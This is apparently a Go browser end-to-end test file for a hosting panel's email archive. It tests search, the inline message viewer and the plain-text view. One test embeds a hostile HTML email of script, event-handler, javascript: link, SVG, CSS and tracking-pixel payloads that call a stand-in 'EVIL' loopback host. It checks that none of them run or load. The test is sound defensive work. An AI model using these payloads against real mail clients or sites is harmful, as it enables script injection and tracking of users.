package e2e

import (
	"fmt"
	"io"
	"log/slog"
	"net/http"
	"net/http/httptest"
	"strings"
	"sync"
	"testing"
	"time"

	"github.com/chromedp/chromedp"

	"zona/mail"
	"zona/store"
	"zona/store/storetest"
)

// serveWithMail runs the app with Ana and the messages queued by fill, and returns its base
// URL.
func serveWithMail(t *testing.T, fill func(st *store.Store, clientID string)) string {
	t.Helper()
	st, kv := storetest.MustOpen(t)
	c := storetest.MustCreateClient(t, st, anaEmail, "Ana", "López", anaPassword)
	fill(st, c.ID)
	return storetest.Serve(t, storetest.Config(), st, kv)
}

func queueMail(t *testing.T, st *store.Store, clientID, category, subject, html string) {
	t.Helper()
	_, err := mail.NewMailer(st, mail.Config{From: "Hosting de Prueba <avisos@hosting.test>"}, nil,
		slog.New(slog.NewTextHandler(io.Discard, nil))).Send(mail.Outgoing{ClientID: clientID, Category: category, Subject: subject, HTML: html})
	if err != nil {
		t.Fatal(err)
	}
}

// openEmails signs in and opens "Emails Recibidos" from the user menu.
func openEmails(t *testing.T, tab *Tab, base string) {
	t.Helper()
	signIn(tab, base, anaEmail, anaPassword, 200)
	tab.Do(chromedp.Click(chromedp.CSS(`details[data-testid="user-menu"] > summary`), chromedp.NodeVisible))
	tab.ClickAndLoad(`[data-testid="menu-emails"]`, 200)
	if p := tab.Path(); p != "/emails" {
		t.Fatalf("the menu opened %s, want /emails", p)
	}
}

// TestEmailsArchiveFlow opens the archive, searches, opens "Ver Mensaje" inline, closes
// it, and opens the plain-text view, at desktop and phone width.
func TestEmailsArchiveFlow(t *testing.T) {
	browser := StartBrowser(t)
	base := serveWithMail(t, func(st *store.Store, id string) {
		for i := range 5 {
			queueMail(t, st, id, store.CategoryNotes, fmt.Sprintf("Nota de pago %d", i), fmt.Sprintf("<p>Importe del mes %d.</p>", i))
		}
		queueMail(t, st, id, store.CategoryDomains, "Renovación de ejemplo.mx",
			`<h1 style="color:#1d4ed8">Su dominio vence pronto</h1><p>Renueve <b>ejemplo.mx</b> antes del 1 de agosto. Facturación anual.</p>`)
	})
	for _, vp := range []Viewport{Desktop, Phone} {
		t.Run(vp.Name, func(t *testing.T) {
			tab := NewTab(t, browser, vp)
			defer tab.AssertNoCSPViolations()
			openEmails(t, tab, base)
			if n := Eval[int](tab, `document.querySelectorAll('[data-testid="email-row"]').length`); n != 6 {
				t.Fatalf("archive shows %d messages, want 6", n)
			}
			if got := tab.Text(`[data-testid="email-subject"]`); got != "Renovación de ejemplo.mx" {
				t.Errorf("newest message is %q", got)
			}
			tab.AssertNoHorizontalOverflow()

			// Search (htmx swap of the list, accents and case folded).
			tab.Do(chromedp.SendKeys(chromedp.CSS(`[data-testid="emails-q"]`), "FACTURACION", chromedp.NodeVisible),
				chromedp.Click(chromedp.CSS(`[data-testid="emails-submit"]`), chromedp.NodeVisible))
			tab.WaitTrue("the search result", `document.querySelectorAll('[data-testid="email-row"]').length === 1`)
			waitProcessed(tab, `[data-testid="email-view"]`)
			if got := tab.Text(`[data-testid="email-subject"]`); got != "Renovación de ejemplo.mx" {
				t.Errorf("search found %q", got)
			}
			tab.Shot("emails-search-" + vp.Name)

			// Ver Mensaje opens inside the page: no navigation, the iframe loads the body.
			before := len(tab.Visited())
			tab.Do(chromedp.Click(chromedp.CSS(`[data-testid="email-view"]`), chromedp.NodeVisible))
			tab.WaitTrue("the message viewer", `!!document.querySelector('#viewer [data-testid="email-viewer"] iframe[data-testid="email-frame"]')`)
			waitProcessed(tab, `[data-testid="email-close"]`)
			if got := tab.Text(`[data-testid="email-viewer-subject"]`); got != "Renovación de ejemplo.mx" {
				t.Errorf("viewer shows %q", got)
			}
			if len(tab.Visited()) != before || tab.Path() != "/emails" {
				t.Errorf("Ver Mensaje left the page: visited %v", tab.Visited())
			}
			if r := tab.BoundingBox(`iframe[data-testid="email-frame"]`); r.Right-r.Left < 300 || r.Bottom-r.Top < 200 {
				t.Errorf("message frame is %vx%v", r.Right-r.Left, r.Bottom-r.Top)
			}
			if r := tab.BoundingBox(`iframe[data-testid="email-frame"]`); r.Left < 0 || r.Right > float64(vp.Width)+1 {
				t.Errorf("message frame overflows the screen: %+v", r)
			}
			tab.AssertNoHorizontalOverflow()
			tab.Shot("emails-viewer-" + vp.Name)

			// Close it.
			tab.Do(chromedp.Click(chromedp.CSS(`[data-testid="email-close"]`), chromedp.NodeVisible))
			tab.WaitTrue("the viewer to close", `document.querySelector('#viewer').children.length === 0`)
			if tab.Path() != "/emails" {
				t.Errorf("closing left the page for %s", tab.Path())
			}

			// Open it again and switch to the plain text.
			tab.Do(chromedp.Click(chromedp.CSS(`[data-testid="email-view"]`), chromedp.NodeVisible))
			tab.WaitTrue("the message viewer", `!!document.querySelector('[data-testid="email-view-text"]')`)
			waitProcessed(tab, `[data-testid="email-view-text"]`)
			tab.Do(chromedp.Click(chromedp.CSS(`[data-testid="email-view-text"]`), chromedp.NodeVisible))
			tab.WaitTrue("the plain text", `!!document.querySelector('[data-testid="email-text"]')`)
			if got := tab.Text(`[data-testid="email-text"]`); !strings.Contains(got, "Renueve ejemplo.mx antes del 1 de agosto.") {
				t.Errorf("plain text reads %q", got)
			}
			tab.AssertReadable(`[data-testid="email-text"]`)
			tab.AssertNoHorizontalOverflow()
			tab.Shot("emails-text-" + vp.Name)
		})
	}
}

// TestHostileEmailStaysInert archives an email with every kind of active content, whose
// scripts would call a second loopback server (the "remote" host), and whose remote image
// lives there too. Viewing it, and asking for remote images, makes that server get no
// request at all: no script ran and nothing remote loaded.
func TestHostileEmailStaysInert(t *testing.T) {
	var mu sync.Mutex
	var hits []string
	remote := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		mu.Lock()
		hits = append(hits, r.URL.Path)
		mu.Unlock()
		w.Header().Set("Content-Type", "image/png")
	}))
	defer remote.Close()
	evil := remote.URL
	hostile := strings.NewReplacer("EVIL", evil).Replace(`<h1 data-testid="mail-title">Factura lista</h1>
<script>fetch("EVIL/script"); parent.document.title = "pwned"</script>
<img src="x" onerror="fetch('EVIL/onerror')">
<a id="js" href="javascript:fetch('EVIL/javascript')">Pagar ahora</a>
<iframe src="EVIL/iframe"></iframe>
<form action="EVIL/form" method="post"><input name="pin" value="1234"><button id="send">Enviar</button></form>
<p style="width: expression(fetch('EVIL/expression')); background-image: url(EVIL/background.png)">estilo</p>
<svg xmlns="http://www.w3.org/2000/svg" onload="fetch('EVIL/svg-onload')"><script>fetch("EVIL/svg-script")</script></svg>
<object data="EVIL/object"></object><embed src="EVIL/embed">
<link rel="stylesheet" href="EVIL/style.css"><style>@import url("EVIL/import.css"); body{background:url(EVIL/body.png)}</style>
<img src="EVIL/pixel.png" alt="pixel de rastreo">
<img src="https://127.0.0.1:1/https-pixel.png" alt="remota https">`)
	base := serveWithMail(t, func(st *store.Store, id string) {
		queueMail(t, st, id, store.CategoryGeneral, "Factura con trampa", hostile)
	})
	browser := StartBrowser(t)
	tab := NewTab(t, browser, Desktop)
	openEmails(t, tab, base)
	tab.Do(chromedp.Click(chromedp.CSS(`[data-testid="email-view"]`), chromedp.NodeVisible))
	tab.WaitTrue("the message frame", `!!document.querySelector('iframe[data-testid="email-frame"]')`)
	waitProcessed(tab, `[data-testid="email-load-images"]`)
	// Give the frame's content every chance to run and load what it names.
	time.Sleep(1500 * time.Millisecond)

	// Ask for remote images: https images are allowed now, scripts still are not.
	tab.Do(chromedp.Click(chromedp.CSS(`[data-testid="email-load-images"]`), chromedp.NodeVisible))
	tab.WaitTrue("the frame with images", `(document.querySelector('iframe[data-testid="email-frame"]') || {src: ''}).src.endsWith('?images=1')`)
	time.Sleep(time.Second)

	if title := Eval[string](tab, `document.title`); strings.Contains(title, "pwned") {
		t.Error("a script of the email changed the page")
	}
	mu.Lock()
	defer mu.Unlock()
	if len(hits) != 0 {
		t.Errorf("the remote host got %d requests: %v", len(hits), hits)
	}
}

// waitProcessed waits until htmx has processed the element that css selects (content it
// swapped in is processed after its settle delay), so that a click on it is htmx's.
func waitProcessed(tab *Tab, css string) {
	tab.t.Helper()
	tab.WaitTrue("htmx to process "+css, `(() => { const e = document.querySelector('`+css+`'); return !!e && !!e['htmx-internal-data'] })()`)
}
